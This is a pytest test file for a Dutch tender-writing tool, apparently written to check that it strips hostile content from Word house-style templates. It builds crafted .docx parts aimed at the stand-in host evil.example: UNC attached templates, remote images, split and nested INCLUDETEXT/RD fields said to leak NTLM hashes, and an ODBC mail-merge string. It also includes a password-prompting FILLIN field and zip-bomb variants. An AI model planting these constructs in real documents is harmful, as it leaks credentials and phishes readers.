"""Hostile house-style templates: nothing from them reaches bidders, odd ones still work, bombs are bounded."""

from __future__ import annotations

import io
import os
import threading
import zipfile
from datetime import date
from pathlib import Path

import docx
import pytest

from tender_assistant.documents import template as docx_template
from tender_assistant.documents.export import export_tender
from tender_assistant.documents.house_style import load_template
from tender_assistant.errors import TemplateError, TenderError

TODAY = date(2026, 11, 25)
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


def _base() -> dict[str, bytes]:
    buf = io.BytesIO()
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "Gemeente Voorbeeld"
    d.add_paragraph("Voorbeeld")
    d.save(buf)
    with zipfile.ZipFile(buf) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def _write(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def _add_rel(parts: dict[str, bytes], rels: str, rel: str) -> None:
    parts[rels] = parts[rels].replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def hostile(path: Path) -> Path:
    """Attached template on a UNC share, a remote image in the header, a macro project and an altChunk."""
    parts = _base()
    settings_rels = "word/_rels/settings.xml.rels"
    parts[settings_rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
                            b'http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    _add_rel(parts, settings_rels, f'<Relationship Id="rIdT" Type="{ATTACHED}" '
             'Target="file://\\\\evil.example\\share\\normal.dotm" TargetMode="External"/>')
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
    if b'xmlns:r=' not in parts["word/settings.xml"][:600]:
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships" ', 1)
    header = next(n for n in parts if n.startswith("word/header"))
    header_rels = f"word/_rels/{header.split('/')[-1]}.rels"
    parts[header_rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
                          b'http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    _add_rel(parts, header_rels, f'<Relationship Id="rIdImg" Type="{IMAGE}" Target="http://evil.example/p.png" '
             'TargetMode="External"/>')
    pic = (b'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
           b'wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="p"/><a:graphic xmlns:a='
           b'"http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="x"><a:blip xmlns:r="'
           b'http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdImg"/></a:graphicData>'
           b'</a:graphic></wp:inline></w:drawing></w:r></w:p></w:hdr>')
    parts[header] = parts[header].replace(b"</w:hdr>", pic)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    _add_rel(parts, "word/_rels/document.xml.rels",
             '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
             'Target="vbaProject.bin"/>'
             '<Relationship Id="rIdAlt" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'aFChunk" Target="chunk.html"/>')
    parts["word/chunk.html"] = b"<html><body><img src='http://evil.example/x.png'></body></html>"
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr", b'<w:altChunk r:id="rIdAlt"/><w:p><w:fldSimple w:instr="INCLUDEPICTURE '
        b'&quot;http://evil.example/y.png&quot;"><w:r><w:t>plaatje</w:t></w:r></w:fldSimple></w:p><w:sectPr', 1)
    return _write(path, parts)


def test_hostile_template_content_is_dropped_and_reported(tmp_path, fake_lib, tender):
    template = hostile(tmp_path / "huisstijl.docx")
    notes: list[str] = []
    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", template, today=TODAY, notes=notes)
    with zipfile.ZipFile(out) as zf:
        everything = b"".join(zf.read(n) for n in zf.namelist())
        names = zf.namelist()
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
    assert b"altChunk" not in everything and b"INCLUDEPICTURE" not in everything
    assert not any("vbaProject" in n or "chunk" in n for n in names)
    dropped = [n for n in notes if "sjabloon noemt Gemeente Voorbeeld" not in n]  # its name is a note of its own
    assert len(dropped) == 4 and any("extern" in n for n in notes) and any("macro" in n for n in notes)
    doc = docx.Document(str(out))  # reopens, header text kept
    assert "Gemeente Voorbeeld" in "".join(p.text for p in doc.sections[0].header.paragraphs)


def test_ordinary_web_links_are_kept_without_notes(tmp_path):
    parts = _base()
    _add_rel(parts, "word/_rels/document.xml.rels", '<Relationship Id="rIdW" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/hyperlink" Target="https://www.zaanstad.nl" TargetMode="External"/>')
    notes: list[str] = []
    load_template(_write(tmp_path / "t.docx", parts), notes)
    assert notes == []


def test_template_without_sectpr_or_body_is_usable(tmp_path, fake_lib, tender):
    parts = _base()
    xml = parts["word/document.xml"]
    start, end = xml.index(b"<w:sectPr"), xml.index(b"</w:sectPr>") + len(b"</w:sectPr>")
    parts["word/document.xml"] = xml[:start] + xml[end:]
    out = export_tender(tender, fake_lib, tmp_path / "a.docx", _write(tmp_path / "nosect.docx", parts), today=TODAY)
    assert "Gunningscriteria" in "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    body_start, body_end = xml.index(b"<w:body>"), xml.index(b"</w:body>") + len(b"</w:body>")
    parts["word/document.xml"] = xml[:body_start] + xml[body_end:]
    out = export_tender(tender, fake_lib, tmp_path / "b.docx", _write(tmp_path / "nobody.docx", parts), today=TODAY)
    assert "Gunningscriteria" in "\n".join(p.text for p in docx.Document(str(out)).paragraphs)


def test_header_with_doctype_gives_a_document_that_reopens(tmp_path, fake_lib, tender):
    parts = _base()
    header = next(n for n in parts if n.startswith("word/header"))
    xml = parts[header]
    decl_end = xml.index(b"?>") + 2
    parts[header] = (xml[:decl_end] + b'<!DOCTYPE w:hdr [<!ENTITY x "Gemeente">]>' + xml[decl_end:]).replace(
        b"Gemeente Voorbeeld", b"&x; Voorbeeld")
    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "dt.docx", parts), today=TODAY)
    with zipfile.ZipFile(out) as zf:
        assert not any(b"DOCTYPE" in zf.read(n) for n in zf.namelist())
    assert docx.Document(str(out)).paragraphs  # reopens


def test_zip_bomb_template_is_refused_with_a_clear_message(tmp_path, monkeypatch):
    parts = _base()
    parts["word/media/big.bin"] = b"\0" * (3 * 1024 * 1024)
    monkeypatch.setattr(docx_template, "MAX_UNPACKED", 2 * 1024 * 1024)
    with pytest.raises(TemplateError, match="zip-bom"):
        load_template(_write(tmp_path / "bom.docx", parts))
    parts = _base()
    parts["word/document.xml"] += b" " * (2 * 1024 * 1024)
    monkeypatch.setattr(docx_template, "MAX_XML_PART", 1024 * 1024)
    with pytest.raises(TemplateError, match="zip-bom"):
        load_template(_write(tmp_path / "bom2.docx", parts))



def test_template_of_millions_of_tiny_elements_is_refused_before_parsing(tmp_path):
    """Sizes alone let this through: 10 MB of '<a/>' packs to 10 KB, stays under the part and total bounds, and
    lxml holds it as 2.6 million nodes (8 such parts took 6.6 GB and 40 s). Elements are counted while unzipping."""
    parts = _base()
    parts["customXml/item9.xml"] = b'<?xml version="1.0"?><r>' + b"<a/>" * 2_600_000 + b"</r>"
    path = _write(tmp_path / "bom3.docx", parts)
    assert path.stat().st_size < 100_000
    with pytest.raises(TemplateError, match=r"meer dan 2\.000\.000 XML-elementen.*zip-bom"):
        load_template(path)
    assert load_template(_write(tmp_path / "gewoon.docx", _base()))  # an ordinary template stays welcome


def test_a_header_under_another_name_is_counted_too(tmp_path):
    """python-docx parses a part by its content type: a header stored as 'header1.dat' (73 KB, 4 million empty
    paragraphs) took 0.9 GB and 15 s when only '.xml' parts were counted."""
    parts = _base()
    header = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
    renamed = header.removesuffix(".xml") + ".dat"
    data = parts.pop(header)
    start = data.index(b">", data.index(b"<w:hdr")) + 1
    parts[renamed] = data[:start] + b"<w:p/>" * 2_100_000 + b"</w:hdr>"
    old, new = header.rsplit("/", 1)[1].encode(), renamed.rsplit("/", 1)[1].encode()
    for name in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
        parts[name] = parts[name].replace(old, new)
    with pytest.raises(TemplateError, match="XML-elementen.*zip-bom"):
        load_template(_write(tmp_path / "kop.docx", parts))

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifo_or_device_as_template_is_refused_without_hanging(tmp_path):
    fifo = tmp_path / "huisstijl.docx"
    os.mkfifo(fifo)
    result: list[BaseException] = []

    def attempt() -> None:
        try:
            load_template(fifo)
        except BaseException as exc:  # noqa: BLE001 - collected for the assertion below
            result.append(exc)

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(10)
    if worker.is_alive():  # unblock the reader so the test run can end, then fail
        with open(fifo, "wb"):
            pass
        pytest.fail("reading a FIFO as template hangs")
    assert isinstance(result[0], TemplateError) and "geen gewoon bestand" in str(result[0])
    if Path("/dev/zero").exists():
        with pytest.raises(TemplateError, match="geen gewoon bestand"):
            load_template("/dev/zero")


def test_output_equal_to_the_template_is_refused_and_the_template_kept(tmp_path, fake_lib, tender):
    template = _write(tmp_path / "huisstijl.docx", _base())
    before = template.read_bytes()
    with pytest.raises(TenderError, match="sjabloon zelf"):
        export_tender(tender, fake_lib, tmp_path / "." / "huisstijl.docx", template, today=TODAY)
    assert template.read_bytes() == before


def _with_body(parts: dict[str, bytes], xml: bytes) -> dict[str, bytes]:
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", xml + b"<w:sectPr", 1)
    return parts


def _split_field(first: bytes, second: bytes, shown: bytes = b"oud") -> bytes:
    return (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">' + first +
            b'</w:instrText></w:r><w:r><w:instrText xml:space="preserve">' + second + b'</w:instrText></w:r>'
            b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>' + shown + b'</w:t></w:r>'
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def test_a_remote_field_split_over_runs_is_judged_whole(tmp_path, fake_lib, tender):
    """'INC' + 'LUDETEXT "\\\\server\\..."' and 'INCLUDE' + 'PICTURE "http://..."' passed when each run was judged
    on its own."""
    parts = _with_body(_base(), _split_field(b" INC", b'LUDETEXT "\\\\evil.example\\share\\x.docx" ') +
                       _split_field(b" INCLUDE", b'PICTURE "http://evil.example/p.png" ', b"plaatje"))
    notes: list[str] = []
    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "split.docx", parts),
                        today=TODAY, notes=notes)
    with zipfile.ZipFile(out) as zf:
        everything = b"".join(zf.read(n) for n in zf.namelist())
    assert b"evil.example" not in everything and b"LUDETEXT" not in everything and b"PICTURE" not in everything
    assert any("2 velden die inhoud van buiten ophalen" in n for n in notes)
    kept = load_template(tmp_path / "split.docx")  # the shown text stays in the template's sample text
    assert "plaatje" in "\n".join(p.text for p in kept.paragraphs)


def test_a_part_not_named_xml_is_sanitised_by_its_content_type(tmp_path, fake_lib, tender):
    """A header stored as 'word/header1.dat' with a DOCTYPE and a remote field reached all three documents."""
    parts = _base()
    header = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
    renamed = header.removesuffix(".xml") + ".dat"
    data = parts.pop(header)
    decl_end = data.index(b"?>") + 2
    data = data[:decl_end] + b'<!DOCTYPE w:hdr [<!ENTITY x "Gemeente">]>' + data[decl_end:]
    data = data.replace(b"Gemeente Voorbeeld", b"&x; Voorbeeld").replace(
        b"</w:hdr>", b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/h.png&quot;"><w:r><w:t>'
        b'logo</w:t></w:r></w:fldSimple></w:p></w:hdr>')
    parts[renamed] = data
    old, new = header.rsplit("/", 1)[1].encode(), renamed.rsplit("/", 1)[1].encode()
    for name in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
        parts[name] = parts[name].replace(old, new)
    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "dat.docx", parts), today=TODAY)
    with zipfile.ZipFile(out) as zf:
        everything = b"".join(zf.read(n) for n in zf.namelist())
    assert b"DOCTYPE" not in everything and b"evil.example" not in everything
    assert "Voorbeeld" in "".join(p.text for p in docx.Document(str(out)).sections[0].header.paragraphs)


def test_mail_merge_and_external_vml_pictures_are_dropped(tmp_path, fake_lib, tender):
    parts = _base()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType '
        b'w:val="odbc"/><w:connectString w:val="DSN=evil.example;UID=x"/><w:query w:val="SELECT * FROM '
        b'evil.example.dbo.t"/></w:mailMerge><w:updateFields w:val="true"/></w:settings>')
    vml = (b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" style="width:10pt;'
           b'height:10pt"><v:imagedata src="file://evil.example/share/p.png"/></v:shape></w:pict></w:r></w:p>')
    _with_body(parts, vml)
    notes: list[str] = []
    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "mm.docx", parts), today=TODAY,
                        notes=notes)
    with zipfile.ZipFile(out) as zf:
        everything = b"".join(zf.read(n) for n in zf.namelist())
    assert b"evil.example" not in everything and b"mailMerge" not in everything
    assert b"updateFields" not in everything  # Word is not asked to update every field on opening
    assert any("samenvoeg" in n for n in notes) and any("extern" in n for n in notes)
    docx.Document(str(out))  # reopens


def test_a_template_of_many_empty_paragraphs_is_refused_at_once(tmp_path):
    """1.9 million empty paragraphs in 61 KB stayed under the element bound and took 167 s to fill (about 90 us a
    paragraph): the paragraph count is bound far lower, and counted while unzipping, before anything is parsed."""
    import time

    parts = _base()
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_900_000)
    path = _write(tmp_path / "leeg.docx", parts)
    assert path.stat().st_size < 100_000
    start = time.monotonic()
    with pytest.raises(TemplateError, match=r"meer dan 25\.000 alinea's"):
        load_template(path)
    assert time.monotonic() - start < 5


def _paragraphs_of_two_runs(tmp_path, n: int) -> Path:
    parts = _base()
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + b"<w:p><w:r><w:t>a</w:t></w:r><w:r><w:t>b</w:t></w:r></w:p>" * n)
    return _write(tmp_path / f"alineas-{n}.docx", parts)


def test_a_template_just_under_the_paragraph_bound_is_filled_within_seconds(tmp_path, fake_lib, tender):
    """99,000 paragraphs of two runs (54 KB) stayed under the old bound of 100,000 and took 32 s for one concept; the
    bound is lower and the per-paragraph work cheaper. Spread over two parts, the count is the sum."""
    import time

    start = time.monotonic()
    export_tender(tender, fake_lib, tmp_path / "uit.docx", _paragraphs_of_two_runs(tmp_path, 24_900), today=TODAY,
                  concept=True)
    assert time.monotonic() - start < 15  # about 2 s on an idle machine; the old bound let 32 s through
    with pytest.raises(TemplateError, match="meer dan 25.000 alinea's"):
        load_template(_paragraphs_of_two_runs(tmp_path, 25_001))
    parts = _base()
    header = next(n for n in parts if n.startswith("word/header"))
    parts[header] = parts[header].replace(b"</w:hdr>", b"<w:p/>" * 13_000 + b"</w:hdr>")
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 13_000)
    with pytest.raises(TemplateError, match="meer dan 25.000 alinea's"):
        load_template(_write(tmp_path / "twee-delen.docx", parts))


@pytest.mark.parametrize("namespaces", [
    [(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
      b"http://purl.oclc.org/ooxml/wordprocessingml/main")],
    [(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
      b"http://purl.oclc.org/ooxml/wordprocessingml/main"),
     (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
      b"http://purl.oclc.org/ooxml/officeDocument/relationships")]])
def test_a_strict_open_xml_template_is_refused_saying_how_to_save_it(tmp_path, fake_lib, tender, namespaces):
    """Word's 'Strict Open XML' uses other namespaces: the export met it as 'onverwacht' or 'geen Word-document'."""
    parts = _base()
    for name in list(parts):
        for old, new in namespaces:
            parts[name] = parts[name].replace(old, new)
    template = _write(tmp_path / "strikt.docx", parts)
    with pytest.raises(TemplateError, match="Strict Open XML.*Word-document \\(.docx\\)"):
        export_tender(tender, fake_lib, tmp_path / "uit.docx", template, today=TODAY)
    assert not (tmp_path / "uit.docx").exists()


def _complex(instr: bytes, shown: bytes = b"oud", dirty: bool = False) -> bytes:
    flag = b' w:dirty="true"' if dirty else b""
    return (b'<w:r><w:fldChar w:fldCharType="begin"' + flag + b'/></w:r><w:r><w:instrText xml:space="preserve">' +
            instr + b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>' + shown +
            b'</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _export_everything(tmp_path, fake_lib, tender, body: bytes, name: str) -> tuple[bytes, list[str], Path]:
    notes: list[str] = []
    template = _write(tmp_path / f"{name}.docx", _with_body(_base(), body))
    out = export_tender(tender, fake_lib, tmp_path / f"{name}-uit.docx", template, today=TODAY, notes=notes)
    with zipfile.ZipFile(out) as zf:
        return b"".join(zf.read(n) for n in zf.namelist()), notes, out


@pytest.mark.parametrize("instr", [
    b' RD "\\\\\\\\evil.example\\\\share\\\\rd.docx" ',  # read by the contents list Word is asked to rebuild
    b' INCLUDE "\\\\\\\\evil.example\\\\share\\\\include.docx" ',  # INCLUDETEXT's old name
    b' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\a.docx" ',  # a link to a share, as a relationship would be
    b' rd "http://evil.example/x.docx" \\f ',
])
def test_every_field_that_names_a_file_is_dropped_with_a_line(tmp_path, fake_lib, tender, instr):
    """RD and INCLUDE passed the sanitiser (F17): opening the leidraad made Word rebuild its contents list, which
    reads every file an RD field names (an NTLM hash to whoever runs the share)."""
    everything, notes, out = _export_everything(tmp_path, fake_lib, tender, b"<w:p>" + _complex(instr, b"tekst")
                                                + b"</w:p>", "rd")
    assert b"evil.example" not in everything
    assert any("1 veld dat inhoud van buiten ophaalt" in n for n in notes)
    kept = load_template(tmp_path / "rd.docx")  # the shown text stays in the template's sample text
    assert "tekst" in "\n".join(p.text for p in kept.paragraphs)


def test_ordinary_web_and_bookmark_hyperlink_fields_stay(tmp_path, fake_lib, tender):
    body = (b"<w:p>" + _complex(b' HYPERLINK "https://www.zaanstad.nl" ', b"site") + b"</w:p><w:p>" +
            _complex(b' HYPERLINK \\l "_Toc1" ', b"hoofdstuk") + b"</w:p>")
    notes: list[str] = []
    load_template(_write(tmp_path / "links.docx", _with_body(_base(), body)), notes)
    assert notes == []


def _nested(inner: bytes, inner_shown: bytes, rest: bytes, shown: bytes) -> bytes:
    return (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + _complex(inner, inner_shown) +
            b'<w:r><w:instrText xml:space="preserve">' + rest + b'</w:instrText></w:r>'
            b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>' + shown + b'</w:t></w:r>'
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def test_a_field_whose_type_a_nested_field_makes_is_dropped(tmp_path, fake_lib, tender):
    """{ { QUOTE "INCLUDETEXT" } "\\\\host\\x.docx" } and the same with character codes of INCLUDEPICTURE reached
    the leidraad whole (F18): Word evaluates the nested field first and uses its result as the type."""
    body = (_nested(b' QUOTE "INCLUDETEXT" ', b"INCLUDETEXT", b' "\\\\\\\\evil.example\\\\share\\\\n.docx" ',
                    b"tekst") +
            _nested(b" QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 ", b"INCLUDEPICTURE",
                    b' "http://evil.example/pixel.png" \\d ', b"plaatje") +
            _nested(b' QUOTE "INCL" ', b"INCL", b'UDETEXT "\\\\\\\\evil.example\\\\x.docx" ', b"derde"))
    everything, notes, _ = _export_everything(tmp_path, fake_lib, tender, body, "genest")
    assert b"evil.example" not in everything and b"QUOTE 73" not in everything
    assert any("3 velden waarvan de soort door een ander veld wordt gemaakt" in n for n in notes)
    kept = load_template(tmp_path / "genest.docx")  # the shown text stays as plain text, fields gone
    text = "\n".join(p.text for p in kept.paragraphs)
    assert "tekst" in text and "plaatje" in text and "derde" in text
    assert not any(el.tag.endswith("fldChar") for el in kept.element.body.iter())


def test_ordinary_nested_fields_stay(tmp_path):
    body = _nested(b" MERGEFIELD naam ", b"naam", b" ", b"x").replace(b"<w:p>", b"<w:p>", 1)
    body = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF '
            b'</w:instrText></w:r>' + _complex(b" PAGE ", b"1") + b'<w:r><w:instrText xml:space="preserve"> = 1 '
            b'"eerste" "later" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>eerste'
            b'</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    notes: list[str] = []
    kept = load_template(_write(tmp_path / "if.docx", _with_body(_base(), body)), notes)
    assert notes == [] and sum(1 for el in kept.element.body.iter() if str(el.tag).endswith("fldChar")) == 6


def test_template_dirty_flags_go_and_questions_are_not_asked(tmp_path, fake_lib, tender):
    """A dirty FILLIN and a dirty simple ASK stayed (F19): Word updates a dirty field on opening, so every bidder
    was asked for "uw wachtwoord van TenderNed". Only the export's own contents list stays marked."""
    body = (b"<w:p>" + _complex(b' FILLIN "Voer uw wachtwoord van TenderNed in" ', b"(antwoord)", dirty=True) +
            b"</w:p><w:p>" + _complex(b" DATE ", b"1-1-2026", dirty=True) + b"</w:p>"
            b'<w:p><w:fldSimple w:instr=" ASK geheim &quot;Wat is uw pincode?&quot; " w:dirty="true"><w:r><w:t>?'
            b"</w:t></w:r></w:fldSimple></w:p>")
    everything, notes, out = _export_everything(tmp_path, fake_lib, tender, body, "vraag")
    assert b"FILLIN" not in everything and b"ASK geheim" not in everything and b"wachtwoord" not in everything
    assert any("2 velden die de lezer iets vragen" in n for n in notes)
    doc = docx.Document(str(out))
    for el in doc.element.body.iter():
        if el.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}dirty") is not None:
            instr = el.getparent().getnext()  # the begin's run, then the run of its instruction
            assert "TOC" in "".join(instr.itertext())


def test_odd_but_possible_field_shapes_are_judged_too(tmp_path):
    """A whole field in one run, a field that never ends, and fields nested deeper than any house style needs."""
    one_run = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDETEXT "\\\\\\\\evil.example\\\\a" '
               b'</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>een</w:t><w:fldChar w:fldCharType="end"/>'
               b'</w:r></w:p>')
    endless = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> RD "\\\\\\\\evil.example\\\\b" '
               b'</w:instrText></w:r></w:p><w:p><w:r><w:t>daarna</w:t></w:r></w:p>')
    notes: list[str] = []
    kept = load_template(_write(tmp_path / "vreemd.docx", _with_body(_base(), one_run + endless)), notes)
    xml = kept.element.xml
    assert "evil.example" not in xml and any("2 velden die inhoud van buiten ophalen" in n for n in notes)
    assert "een" in [p.text for p in kept.paragraphs] and "daarna" in [p.text for p in kept.paragraphs]
    deep = b"<w:p>" + b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 25 + b"</w:p>"
    with pytest.raises(TemplateError, match="diep.docx heeft velden die meer dan 20 lagen diep"):
        load_template(_write(tmp_path / "diep.docx", _with_body(_base(), deep)))
